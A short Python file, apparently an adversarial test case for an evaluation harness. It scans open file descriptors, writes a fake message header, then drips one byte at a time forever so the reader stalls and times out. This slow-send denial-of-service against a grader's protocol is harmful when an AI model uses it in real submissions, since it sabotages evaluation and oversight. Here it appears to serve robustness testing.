# attack: sends an answer byte by byte, so that each byte arrives in time and the whole never does
# class: protocol
# success: slow
# ends: TimedOut
# holds: 1
import os, time
def f(x, note):
    for number in range(3, 256):
        try:
            os.write(number, b"\x00\x00\xff\xff")
        except OSError:
            continue
        while True:
            os.write(number, b"\x91")
            time.sleep(0.01)
